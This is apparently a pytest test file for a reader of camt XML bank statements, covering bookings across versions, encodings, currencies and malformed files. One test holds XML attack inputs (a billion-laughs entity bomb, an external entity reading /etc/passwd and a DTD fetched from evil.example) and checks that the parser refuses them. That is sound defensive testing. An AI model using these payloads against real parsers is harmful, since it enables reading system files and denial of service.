"""Bank statements in XML: what a booking is in each version, and files that are none or mean harm."""

from datetime import date
from decimal import Decimal

import pytest

from desktop_manager.api.errors import Cancelled
from desktop_manager.api.models.money import Money
from desktop_manager.features.errors import UnreadableEvidence
from desktop_manager.features.evidence.records import StatementEntry
from desktop_manager.features.evidence.statement_camt import read_camt
from support.evidence_samples import CAMT_QR_DEBIT, QR_REFERENCE, camt, camt_qr_debit

BOOKED = "<Sts>BOOK</Sts><BookgDt><Dt>2026-11-06</Dt></BookgDt>"


@pytest.mark.parametrize("version", ["02", "03", "04", "05", "06", "07", "08", "13"])
def test_a_payment_by_qr_bill_is_read_in_each_version(version: str) -> None:
    statement = read_camt(camt_qr_debit(version))
    assert statement.entries == (
        StatementEntry(
            booked_on=date(2026, 11, 6),
            money=Money(Decimal("58.20"), "CHF"),
            outgoing=True,
            reference=QR_REFERENCE,
            counterparty="Infomaniak Network SA",
            text="E-BANKING AUFTRAG",
            iban="CH4431999123000889012",
        ),
    )
    assert (statement.form, statement.account, statement.skipped) == ("camt", "CH9300762011623852957", 0)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_any_encoding_that_the_file_names_will_do(encoding: str) -> None:
    text = camt_qr_debit().decode().replace("Infomaniak", "Réseau")
    named = {"utf-8-sig": "UTF-8", "utf-16": "UTF-16"}.get(encoding, encoding)
    raw = text.replace('encoding="UTF-8"', f'encoding="{named}"').encode(encoding)
    assert read_camt(raw).entries[0].counterparty == "Réseau Network SA"


def test_a_notification_is_read_too() -> None:
    raw = camt_qr_debit().replace(b"BkToCstmrStmt", b"BkToCstmrDbtCdtNtfctn").replace(b"camt.053", b"camt.054")
    assert len(read_camt(raw).entries) == 1


def test_money_that_came_in_is_not_outgoing_and_its_payer_is_the_counterparty() -> None:
    raw = camt(
        f'<Ntry><Amt Ccy="EUR">41.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>{BOOKED}<NtryDtls><TxDtls><RltdPties>'
        "<Dbtr><Nm>Kunde</Nm></Dbtr><Cdtr><Nm>Ich</Nm></Cdtr></RltdPties>"
        "<RmtInf><Ustrd>Danke RF18 5390 0754 7034</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>"
    )
    (entry,) = read_camt(raw).entries
    assert (entry.outgoing, entry.counterparty, entry.reference) == (False, "Kunde", "RF18539007547034")
    assert entry.money == Money(Decimal("41.00"), "EUR")


def test_what_was_ordered_in_another_currency_is_kept() -> None:
    raw = camt(
        f'<Ntry><Amt Ccy="CHF">39.10</Amt><CdtDbtInd>DBIT</CdtDbtInd>{BOOKED}<NtryDtls><TxDtls><AmtDtls><InstdAmt>'
        '<Amt Ccy="EUR">41.00</Amt></InstdAmt></AmtDtls></TxDtls></NtryDtls></Ntry>'
    )
    (entry,) = read_camt(raw).entries
    assert (entry.money, entry.instructed) == (Money(Decimal("39.10"), "CHF"), Money(Decimal("41.00"), "EUR"))


def test_a_collective_booking_is_taken_apart_where_each_amount_is_told() -> None:
    part = '<TxDtls><Amt Ccy="CHF">{0}</Amt><CdtDbtInd>DBIT</CdtDbtInd></TxDtls>'
    details = f"<NtryDtls>{part.format('58.20')}{part.format('9.00')}</NtryDtls>"
    whole = f'<Ntry><Amt Ccy="CHF">67.20</Amt><CdtDbtInd>DBIT</CdtDbtInd>{BOOKED}{{0}}</Ntry>'
    assert [str(one.money.amount) for one in read_camt(camt(whole.format(details))).entries] == ["58.20", "9.00"]
    silent = "<NtryDtls><TxDtls/><TxDtls/></NtryDtls>"
    assert [str(one.money.amount) for one in read_camt(camt(whole.format(silent))).entries] == ["67.20"]


@pytest.mark.parametrize(
    "entry",
    [
        CAMT_QR_DEBIT.format(status="PDNG", creditor=""),
        CAMT_QR_DEBIT.format(status="<Cd>PDNG</Cd>", creditor=""),
        CAMT_QR_DEBIT.format(status="BOOK", creditor="").replace("2026-11-06", "soon"),
        CAMT_QR_DEBIT.format(status="BOOK", creditor="").replace(">58.20<", ">a lot<"),
        CAMT_QR_DEBIT.format(status="BOOK", creditor="").replace(">58.20<", ">NaN<"),
        CAMT_QR_DEBIT.format(status="BOOK", creditor="").replace(' Ccy="CHF"', ""),
        CAMT_QR_DEBIT.format(status="BOOK", creditor="").replace(">58.20<", ">1E+999999<"),
    ],
)
def test_what_is_pending_or_tells_no_amount_is_counted_and_left_out(entry: str) -> None:
    statement = read_camt(camt(entry, CAMT_QR_DEBIT.format(status="BOOK", creditor="")))
    assert (len(statement.entries), statement.skipped) == (1, 1)


def test_a_statement_without_bookings_is_one() -> None:
    assert read_camt(camt()).entries == ()


LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10 if at else "ha"}">' for at in range(10))


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "definitions",
    [
        LAUGHS,
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;',
        "<!ELEMENT a ANY>",
    ],
)
def test_definitions_of_its_own_are_refused_before_they_do_anything(definitions: str) -> None:
    raw = f'<?xml version="1.0"?><!DOCTYPE Document [{definitions}]><Document>&l9;</Document>'.encode()
    with pytest.raises(UnreadableEvidence, match="entities"):
        read_camt(raw)


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (b"", "empty"),
        (b" \n", "empty"),
        (camt_qr_debit()[:900], "damaged"),
        (b"<Document><Ntry></Document>", "damaged"),
        (b'<?xml version="1.0" encoding="x-none"?><Document/>', "damaged"),
        (b"<Document/>", "not_statement"),
        (b"<Ntry><Amt/></Ntry>", "not_statement"),
        (b"<b>" * 500_000, "not_statement"),
    ],
)
def test_what_is_no_statement_is_said_to_be_none(raw: bytes, code: str) -> None:
    with pytest.raises(UnreadableEvidence) as refused:
        read_camt(raw)
    assert refused.value.code == code


class Impatient:
    cancelled = True

    def progress(self, done: int, total: int, code: str) -> None:
        raise AssertionError("it was cancelled before")


def test_a_reading_stops_when_it_is_not_wanted() -> None:
    with pytest.raises(Cancelled):
        read_camt(camt_qr_debit(), Impatient())
